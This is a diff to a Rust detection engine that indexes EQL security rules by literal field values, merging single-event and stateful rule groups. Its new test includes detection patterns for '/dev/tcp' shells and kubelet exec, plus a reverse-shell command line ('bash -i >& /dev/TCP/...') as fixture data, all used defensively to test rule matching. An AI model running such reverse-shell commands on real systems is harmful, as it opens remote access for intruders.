@@ -12,27 +12,22 @@
 //! (see [`crate::eql::Clock`]); events later than the tolerance are counted and skipped by
 //! stateful rules only.
 
-use std::collections::HashMap;
-
+use super::candidates::Group;
 use super::{Outcome, Report, Rule};
 use crate::document::{Document, FieldPath, Scalar};
-use crate::eql::compile::Literals;
 use crate::eql::query::Role;
 use crate::eql::{Clock, Hit, Match, Program, QueryState, Retain, StateLimits, StateStats};
 
 #[derive(Debug)]
 pub struct RuleSet {
     rules: Vec<Rule>,
-    /// Category → its single-event rules. A handful of categories at most, so a list beats a
-    /// hash map and its scan visits each category once however many values the event's
-    /// `event.category` array repeats.
+    /// Category → its rules, single-event and stateful together, so that one pass of the
+    /// index finds both. A handful of categories at most, so a list beats a hash map and its
+    /// scan visits each category once however many values the event's `event.category` array
+    /// repeats. A stateful rule appears under each category its items select.
     by_category: Vec<(Box<str>, Group)>,
-    /// `any where ...` rules, tried on every event.
+    /// `any where ...` rules and stateful rules with an `any` item, tried on every event.
     any: Group,
-    /// The same for stateful rules; a rule appears under each category its items select, and
-    /// is indexed only when every item (missing and `until` ones included) pins a field.
-    stateful_by_category: Vec<(Box<str>, Group)>,
-    stateful_any: Group,
     /// Every stateful rule.
     stateful: Vec<usize>,
     /// Stateful rules whose results can wait for time to pass (a trailing missing event).
@@ -40,14 +35,13 @@ pub struct RuleSet {
     category_field: FieldPath,
 }
 
-/// The program of a single-event rule.
-fn single(r: &Rule) -> Vec<&Program> {
-    r.query.as_event().into_iter().collect()
-}
-
-/// Every item of a stateful rule.
-fn items(r: &Rule) -> Vec<&Program> {
-    r.query.items().into_iter().map(|(_, p)| p).collect()
+/// The programs a rule's events go through: the one of a single-event rule, every item of a
+/// stateful one.
+fn programs(r: &Rule) -> Vec<&Program> {
+    match r.query.as_event() {
+        Some(p) if !r.query.is_stateful() => vec![p],
+        _ => r.query.items().into_iter().map(|(_, p)| p).collect(),
+    }
 }
 
 fn add(lists: &mut Vec<(Box<str>, Vec<usize>)>, cat: &str, i: usize) {
@@ -66,14 +60,10 @@ impl RuleSet {
     pub fn new(rules: Vec<Rule>) -> RuleSet {
         let mut by_category: Vec<(Box<str>, Vec<usize>)> = Vec::new();
         let mut any = Vec::new();
-        let mut stateful_by_category: Vec<(Box<str>, Vec<usize>)> = Vec::new();
-        let mut stateful_any = Vec::new();
         let mut set = RuleSet {
             rules,
             by_category: Vec::new(),
             any: Group::default(),
-            stateful_by_category: Vec::new(),
-            stateful_any: Group::default(),
             stateful: Vec::new(),
             delayed: Vec::new(),
             category_field: FieldPath::new("event.category"),
@@ -95,23 +85,18 @@ impl RuleSet {
                 }
             }
             match q.categories() {
-                None => stateful_any.push(i),
+                None => any.push(i),
                 Some(cats) => {
                     for cat in cats {
-                        add(&mut stateful_by_category, cat, i);
+                        add(&mut by_category, cat, i);
                     }
                 }
             }
         }
-        set.any = Group::new(&set.rules, any, single);
+        set.any = Group::new(&set.rules, any, programs);
         set.by_category = by_category
             .into_iter()
-            .map(|(cat, list)| (cat, Group::new(&set.rules, list, single)))
-            .collect();
-        set.stateful_any = Group::new(&set.rules, stateful_any, items);
-        set.stateful_by_category = stateful_by_category
-            .into_iter()
-            .map(|(cat, list)| (cat, Group::new(&set.rules, list, items)))
+            .map(|(cat, list)| (cat, Group::new(&set.rules, list, programs)))
             .collect();
         set
     }
@@ -174,97 +159,114 @@ impl RuleSet {
     /// seen at load; within a category, in load order), then the `any` rules. Stateful rules
     /// are not run (see [`RuleSet::evaluate_with_state`]). Does not allocate.
     ///
-    /// Most rules pin a field such as `process.name` to a list of literals; those are indexed
-    /// by it ([`INDEX_FIELDS`]), so an event is checked only against the rules its own values
-    /// name and the rules no index covers.
+    /// Most rules imply literals some field must hold (`process.name in ("sh", "bash")`,
+    /// `process.command_line : "*/dev/tcp/*"`); those are indexed by them (`candidates`), so
+    /// an event is checked only against the rules its own values name and the rules no index
+    /// covers.
     pub fn evaluate<D: Document + ?Sized>(&self, doc: &D, mut on_match: impl FnMut(&Rule)) {
+        self.visit(doc, |i, _| {
+            if let Some(rule) = self.rules.get(i) {
+                if single_match(rule, doc) {
+                    on_match(rule);
+                }
+            }
+        });
+    }
+
+    /// Calls `try_rule` with every rule `doc` may match and the items it may match (see
+    /// [`QueryState::on_candidate`]): the candidates of each of its categories' groups, then
+    /// of the `any` group.
+    fn visit<D: Document + ?Sized>(&self, doc: &D, mut try_rule: impl FnMut(usize, u64)) {
         let categories = doc.values(&self.category_field);
         if !categories.is_missing() {
             for (category, group) in &self.by_category {
                 if categories.any(|v| matches!(v, Scalar::Str(s) if s == &**category)) {
-                    group.run(&self.rules, doc, &mut on_match);
+                    group.visit(doc, |i, items| try_rule(i as usize, items));
                 }
             }
         }
-        self.any.run(&self.rules, doc, &mut on_match);
+        self.any.visit(doc, |i, items| try_rule(i as usize, items));
     }
 
     /// How many (single-event, stateful) rules are reached only through a literal index; the
     /// rest are tried on every event of their categories.
     pub fn indexed_count(&self) -> (usize, usize) {
-        let count = |groups: &mut dyn Iterator<Item = &Group>| -> usize {
-            groups.map(|g| g.all.len() - g.always.len()).sum()
-        };
-        let single = count(
-            &mut self
-                .by_category
-                .iter()
-                .map(|(_, g)| g)
-                .chain(std::iter::once(&self.any)),
-        );
-        // A stateful rule is in several category groups; count it once.
-        let mut seen: Vec<u32> = Vec::new();
+        let mut indexed: Vec<u32> = Vec::new();
+        let mut unindexed: Vec<u32> = Vec::new();
         for g in self
-            .stateful_by_category
+            .by_category
             .iter()
             .map(|(_, g)| g)
-            .chain(std::iter::once(&self.stateful_any))
+            .chain(std::iter::once(&self.any))
         {
-            for &i in &g.all {
-                if !g.always.contains(&i) && !seen.contains(&i) {
-                    seen.push(i);
-                }
-            }
+            unindexed.extend(g.unindexed_rules());
+            indexed.extend(&g.rules);
         }
-        (single, seen.len())
+        indexed.sort_unstable();
+        indexed.dedup();
+        // A stateful rule in several groups counts as indexed only when no group tries it always.
+        indexed.retain(|i| !unindexed.contains(i));
+        let stateful = indexed
+            .iter()
+            .filter(|&&i| {
+                self.rules
+                    .get(i as usize)
+                    .is_some_and(|r| r.query.is_stateful())
+            })
+            .count();
+        (indexed.len() - stateful, stateful)
     }
 
     /// Every rule, stateful ones included: single-event matches as [`Hit::Event`], sequence and
-    /// sample results (and results released by pipes) as [`Hit::Match`]. Results of different
-    /// rules come in rule-index order within each group; a sequence waiting for a trailing
-    /// missing event comes out on the first event past its deadline, whichever rule that event
-    /// is for.
+    /// sample results (and results released by pipes) as [`Hit::Match`]. First come sequences
+    /// that waited for a trailing missing event and whose deadline this event's time passed
+    /// (whichever rule the event is for), then the results of the rules the event reaches, in
+    /// the order of [`RuleSet::evaluate`]. An event later than the state's tolerance is
+    /// counted and reaches the single-event rules only.
     pub fn evaluate_with_state<D: Document + ?Sized>(
         &self,
         doc: &D,
         state: &mut RuleState,
         mut on_hit: impl FnMut(&Rule, Hit<'_, D>),
     ) {
-        self.evaluate(doc, |rule| on_hit(rule, Hit::Event(doc)));
-        if self.stateful.is_empty() {
-            return;
-        }
-        let Some(tick) = state.clock.tick(doc.timestamp_ns()) else {
-            state.late += 1;
-            return;
+        let tick = if self.stateful.is_empty() {
+            None
+        } else {
+            let tick = state.clock.tick(doc.timestamp_ns());
+            if tick.is_none() {
+                state.late += 1;
+            }
+            tick
         };
-        state.epoch += 1;
-        for &i in &self.delayed {
-            if let (Some(rule), Some(Some(st))) = (self.rules.get(i), state.states.get_mut(i)) {
-                if st.wants_advance(tick.safe) {
-                    st.advance(&rule.query, tick.safe, &mut |m| on_hit(rule, Hit::Match(m)));
+        if let Some(tick) = tick {
+            state.epoch += 1;
+            for &i in &self.delayed {
+                if let (Some(rule), Some(Some(st))) = (self.rules.get(i), state.states.get_mut(i)) {
+                    if st.wants_advance(tick.safe) {
+                        st.advance(&rule.query, tick.safe, &mut |m| on_hit(rule, Hit::Match(m)));
+                    }
                 }
             }
         }
         let mut retain = Retain::new(doc);
-        let categories = doc.values(&self.category_field);
-        if !categories.is_missing() {
-            for (category, group) in &self.stateful_by_category {
-                if categories.any(|v| matches!(v, Scalar::Str(s) if s == &**category)) {
-                    group.visit(doc, |i| {
-                        self.run_stateful(i as usize, tick, &mut retain, state, &mut on_hit)
-                    });
+        self.visit(doc, |i, items| {
+            let Some(rule) = self.rules.get(i) else {
+                return;
+            };
+            if !rule.query.is_stateful() {
+                if single_match(rule, doc) {
+                    on_hit(rule, Hit::Event(doc));
                 }
+            } else if let Some(tick) = tick {
+                self.run_stateful(i, items, tick, &mut retain, state, &mut on_hit);
             }
-        }
-        self.stateful_any.visit(doc, |i| {
-            self.run_stateful(i as usize, tick, &mut retain, state, &mut on_hit)
         });
     }
 
     fn run_stateful<D: Document + ?Sized>(
         &self,
         i: usize,
+        items: u64,
         tick: crate::eql::Tick,
         retain: &mut Retain<'_, D>,
         state: &mut RuleState,
@@ -277,12 +279,15 @@ impl RuleSet {
         ) else {
             return;
         };
-        // A rule listed under two of the event's categories runs once.
+        // A rule listed under two of the event's categories runs once: every group indexes
+        // all of its items alike, so the first group's items are the ones that may match.
         if *seen == state.epoch || state.inert.get(i).copied().unwrap_or(false) || st.done() {
             return;
         }
         *seen = state.epoch;
-        st.on_event(&rule.query, tick, retain, &mut |hit| on_hit(rule, hit));
+        st.on_candidate(&rule.query, tick, retain, items, &mut |hit| {
+            on_hit(rule, hit)
+        });
     }
 
     /// End of input: sequences waiting for a trailing missing event are emitted (nothing can
@@ -296,263 +301,14 @@ impl RuleSet {
     }
 }
 
-/// Fields a rule may be indexed by, most telling first. A rule is indexed by the first of
-/// these whose values its query pins to a list of literals (`process.name in ("sh", "bash")`,
-/// `process.name : "curl"`); fields that hold the same value for most events (`host.os.type`,
-/// `event.type`, `event.action`) would select nothing and are not used.
-pub const INDEX_FIELDS: &[&str] = &[
-    "process.name",
-    "process.executable",
-    "process.parent.name",
-    "process.parent.executable",
-    "file.name",
-    "file.extension",
-    "file.path",
-    "dll.name",
-    "process.args",
-];
-
-/// Longest literal an index keeps; a rule pinned to a longer one is not indexed by that field.
-const INDEX_KEY_MAX: usize = 128;
-/// Candidates are a bitset on the stack: up to this many words (64 rules each) per group; a
-/// bigger group tries all its rules in order (correct, just slower).
-const BITSET_WORDS: usize = 32;
-
-/// The single-event rules of one category (or the `any` rules).
-#[derive(Debug, Default)]
-struct Group {
-    /// Every rule, in load order; an index names rules by their position here.
-    all: Vec<u32>,
-    /// The rules no index covers, in load order.
-    always: Vec<u32>,
-    /// The same, as a bitset over positions in `all`.
-    always_bits: Vec<u64>,
-    indexes: Vec<LiteralIndex>,
-}
-
-/// Rules by a literal value their query requires of `field`: equal to a key of `exact`, or
-/// starting with a key of `prefixes` (keys ASCII-lowercased, values folded to match).
-#[derive(Debug)]
-struct LiteralIndex {
-    field: FieldPath,
-    exact_max: usize,
-    exact: HashMap<Box<[u8]>, Box<[u32]>, BuildFx>,
-    /// The distinct prefix lengths, each probed once per value.
-    prefix_lens: Vec<usize>,
-    prefixes: HashMap<Box<[u8]>, Box<[u32]>, BuildFx>,
-}
-
-type Postings = HashMap<Box<[u8]>, Vec<u32>, BuildFx>;
-
-impl Group {
-    /// Indexes `members`; `programs` gives the queries a rule's events go through (the one
-    /// of a single-event rule, every item of a sequence or sample). A rule is indexed when
-    /// each of its programs pins an index field; it is then a candidate for an event whose
-    /// values any of them names.
-    fn new<'r>(
-        rules: &'r [Rule],
-        members: Vec<usize>,
-        programs: impl Fn(&'r Rule) -> Vec<&'r Program>,
-    ) -> Group {
-        let mut group = Group {
-            all: members.iter().map(|&i| i as u32).collect(),
-            ..Group::default()
-        };
-        let mut by_field: Vec<(FieldPath, Postings, Postings)> = Vec::new();
-        group.always_bits = vec![0; members.len().div_ceil(64)];
-        for (pos, &i) in members.iter().enumerate() {
-            let Some(rule) = rules.get(i) else {
-                continue;
-            };
-            let chosen: Option<Vec<(&str, Literals)>> = programs(rule)
-                .into_iter()
-                .map(|p| {
-                    INDEX_FIELDS.iter().find_map(|field| {
-                        let lits = p.literals(field)?;
-                        let all = || lits.exact.iter().chain(&lits.prefixes);
-                        let usable = all().next().is_some()
-                            && all().all(|v| v.len() <= INDEX_KEY_MAX)
-                            && lits.prefixes.iter().all(|p| !p.is_empty());
-                        usable.then_some((*field, lits))
-                    })
-                })
-                .collect();
-            let Some(chosen) = chosen.filter(|c| !c.is_empty()) else {
-                group.always.push(i as u32);
-                group.always_bits[pos / 64] |= 1 << (pos % 64);
-                continue;
-            };
-            for (field, lits) in chosen {
-                let slot = match by_field.iter().position(|(f, ..)| f.as_str() == field) {
-                    Some(p) => p,
-                    None => {
-                        by_field.push((
-                            FieldPath::new(field),
-                            Postings::default(),
-                            Postings::default(),
-                        ));
-                        by_field.len() - 1
-                    }
-                };
-                let key = |v: &String| v.to_ascii_lowercase().into_bytes().into_boxed_slice();
-                for v in &lits.exact {
-                    by_field[slot].1.entry(key(v)).or_default().push(pos as u32);
-                }
-                for v in &lits.prefixes {
-                    by_field[slot].2.entry(key(v)).or_default().push(pos as u32);
-                }
-            }
-        }
-        let freeze = |map: Postings| -> HashMap<Box<[u8]>, Box<[u32]>, BuildFx> {
-            map.into_iter()
-                .map(|(k, mut v)| {
-                    v.dedup();
-                    (k, v.into_boxed_slice())
-                })
-                .collect()
-        };
-        group.indexes = by_field
-            .into_iter()
-            .map(|(field, exact, prefixes)| {
-                let mut prefix_lens: Vec<usize> = prefixes.keys().map(|k| k.len()).collect();
-                prefix_lens.sort_unstable();
-                prefix_lens.dedup();
-                LiteralIndex {
-                    field,
-                    exact_max: exact.keys().map(|k| k.len()).max().unwrap_or(0),
-                    exact: freeze(exact),
-                    prefix_lens,
-                    prefixes: freeze(prefixes),
-                }
-            })
-            .collect();
-        group
-    }
-
-    /// Runs the single-event rules `doc` may match, in load order.
-    fn run<D: Document + ?Sized>(&self, rules: &[Rule], doc: &D, on_match: &mut impl FnMut(&Rule)) {
-        self.visit(doc, |i| {
-            if let Some(rule) = rules.get(i as usize) {
-                if rule
-                    .query
-                    .as_event()
-                    .is_some_and(|p| p.matches_condition(doc))
-                {
-                    on_match(rule);
-                }
-            }
-        });
-    }
-
-    /// Calls `try_rule` with every rule `doc` may match, in load order, each once.
-    fn visit<D: Document + ?Sized>(&self, doc: &D, mut try_rule: impl FnMut(u32)) {
-        let words = self.always_bits.len();
-        if self.indexes.is_empty() || words > BITSET_WORDS {
-            let list = if self.indexes.is_empty() {
-                &self.always
-            } else {
-                &self.all
-            };
-            list.iter().for_each(|&i| try_rule(i));
-            return;
-        }
-        // Candidates as a bitset over the group's positions: the rules no index covers, then
-        // every rule an index names for one of the event's values.
-        let mut bits = [0u64; BITSET_WORDS];
-        bits[..words].copy_from_slice(&self.always_bits);
-        let mut everything = false;
-        let mut key = [0u8; INDEX_KEY_MAX];
-        for index in &self.indexes {
-            doc.values(&index.field).any(|v| {
-                let mut number = [0u8; 24];
-                let bytes: &[u8] = match v {
-                    Scalar::Str(s) => s.as_bytes(),
-                    Scalar::Int(i) => {
-                        let mut w = &mut number[..];
-                        let _ = std::io::Write::write_fmt(&mut w, format_args!("{i}"));
-                        let len = 24 - w.len();
-                        &number[..len]
-                    }
-                    Scalar::Null => return false,
-                    // A literal can match a boolean or a float by its string form
-                    // ("true", "1.5"); rare enough to try every rule instead.
-                    Scalar::Bool(_) | Scalar::Float(_) => {
-                        everything = true;
-                        return true;
-                    }
-                };
-                let take = bytes.len().min(INDEX_KEY_MAX);
-                let k = &mut key[..take];
-                k.copy_from_slice(&bytes[..take]);
-                k.make_ascii_lowercase();
-                let mut add = |list: &[u32]| {
-                    for &pos in list {
-                        if let Some(w) = bits.get_mut(pos as usize / 64) {
-                            *w |= 1 << (pos % 64);
-                        }
-                    }
-                };
-                if bytes.len() <= index.exact_max {
-                    if let Some(list) = index.exact.get(&*k) {
-                        add(list);
-                    }
-                }
-                for &len in &index.prefix_lens {
-                    if let Some(list) = k.get(..len).and_then(|p| index.prefixes.get(p)) {
-                        add(list);
-                    }
-                }
-                false
-            });
-            if everything {
-                self.all.iter().for_each(|&i| try_rule(i));
-                return;
-            }
-        }
-        for (w, word) in bits[..words].iter().enumerate() {
-            let mut x = *word;
-            while x != 0 {
-                let pos = w * 64 + x.trailing_zeros() as usize;
-                x &= x - 1;
-                if let Some(&i) = self.all.get(pos) {
-                    try_rule(i);
-                }
-            }
-        }
-    }
-}
-
-/// FxHash: the index's keys come from rules and never grow, so a keyed hash buys nothing and
-/// would cost more than the lookups it serves.
-#[derive(Clone, Copy, Debug, Default)]
-struct BuildFx;
-
-impl std::hash::BuildHasher for BuildFx {
-    type Hasher = Fx;
-    fn build_hasher(&self) -> Fx {
-        Fx(0)
-    }
-}
-
-struct Fx(u64);
-
-impl std::hash::Hasher for Fx {
-    fn write(&mut self, bytes: &[u8]) {
-        const K: u64 = 0x51_7c_c1_b7_27_22_0a_95;
-        let mut chunks = bytes.chunks_exact(8);
-        for c in &mut chunks {
-            let mut w = [0u8; 8];
-            w.copy_from_slice(c);
-            self.0 = (self.0.rotate_left(5) ^ u64::from_le_bytes(w)).wrapping_mul(K);
-        }
-        for &b in chunks.remainder() {
-            self.0 = (self.0.rotate_left(5) ^ u64::from(b)).wrapping_mul(K);
-        }
-    }
-
-    fn finish(&self) -> u64 {
-        self.0
-    }
+/// A single-event rule (without pipes) matches `doc`.
+#[inline]
+fn single_match<D: Document + ?Sized>(rule: &Rule, doc: &D) -> bool {
+    !rule.query.is_stateful()
+        && rule
+            .query
+            .as_event()
+            .is_some_and(|p| p.matches_condition(doc))
 }
 
 /// What stateful rules remember, for one evaluator; made by [`RuleSet::new_state`].
@@ -678,8 +434,8 @@ mod tests {
             r#"process where process.name == "7""#,
             r#"any where process.name == "bash""#,
         ]);
-        // Rule 4 (args) and rule 5 (suffix) cannot be indexed by the name.
-        assert_eq!(set.indexed_count(), (7, 0));
+        // Rule 4 by a substring of the args, rule 5 by a substring of the name.
+        assert_eq!(set.indexed_count(), (9, 0));
         let docs: Vec<JsonDocument> = [
             json!({"event": {"category": "process"}, "process": {"name": "bash"}}),
             json!({"event": {"category": "process"}, "process": {"name": "BASH"}}),
@@ -702,6 +458,55 @@ mod tests {
         .map(doc)
         .collect();
         assert!(same_verdicts(&set, &docs) > 10);
+    }
+
+    #[test]
+    fn substrings_other_fields_and_long_literals_keep_verdicts() {
+        let long = "a".repeat(200);
+        let long_rule = format!(r#"process where process.command_line == "{long}""#);
+        let set = set(&[
+            r#"process where process.command_line : "*/DEV/tcp/*""#,
+            r#"process where event.action == "load_module" and process.name != "x""#,
+            r#"process where process.name == "kubeletctl" or (process.args in ("run", "exec") and process.args : "*:10250*")"#,
+            r#"process where process.command_line like "*\\x*\\x*""#,
+            &long_rule,
+            r#"process where process.executable like "/tmp/*/x?y*""#,
+            r#"process where process.name like "?ash""#,
+            r#"process where user.id == "0" and process.command_line regex ".*x.*""#,
+            r#"process where process.name : "*""#,
+            r#"process where process.args : ("*a*", "*") and process.pid > 1"#,
+            r#"process where process.name == "a" or process.pid == 2"#,
+        ]);
+        // The last three imply no literal: `*` matches anything, a number test is no literal.
+        assert_eq!(set.indexed_count(), (8, 0));
+        let docs: Vec<JsonDocument> = [
+            json!({"process": {"command_line": "bash -i >& /dev/TCP/1/2 0>&1"}}),
+            json!({"process": {"command_line": "/dev/tc"}}),
+            json!({"event": {"action": "load_module"}, "process": {"name": "insmod"}}),
+            json!({"event": {"action": "LOAD_MODULE"}, "process": {"name": "insmod"}}),
+            json!({"event": {"action": "exec"}, "process": {"name": "kubeletctl"}}),
+            json!({"process": {"name": "curl", "args": ["curl", "exec", "http://n:10250/pods"]}}),
+            json!({"process": {"name": "curl", "args": ["curl", "EXEC", "http://n:10250/pods"]}}),
+            json!({"process": {"command_line": r"printf \x41\x42"}}),
+            json!({"process": {"command_line": r"printf \X41\x42"}}),
+            json!({"process": {"command_line": long.clone()}}),
+            json!({"process": {"command_line": format!("{long}b")}}),
+            json!({"process": {"executable": "/tmp/q/xzy1"}}),
+            json!({"process": {"executable": "/TMP/q/xzy1"}}),
+            json!({"process": {"name": "bash", "pid": 2}}),
+            json!({"process": {"name": "BASH", "pid": 3, "args": ["a"]}}),
+            json!({"user": {"id": 0}, "process": {"command_line": "xx"}}),
+            json!({"user": {"id": "0"}, "process": {"command_line": "xx"}}),
+            json!({"user": {"id": 0.0}, "process": {"command_line": "xx"}}),
+            json!({"user": {"id": "1"}, "process": {"command_line": "xx"}}),
+        ]
+        .into_iter()
+        .map(|mut v| {
+            v["event"]["category"] = json!("process");
+            doc(v)
+        })
+        .collect();
+        assert!(same_verdicts(&set, &docs) > 15);
     }
 
     /// (rule index, the result's process names).
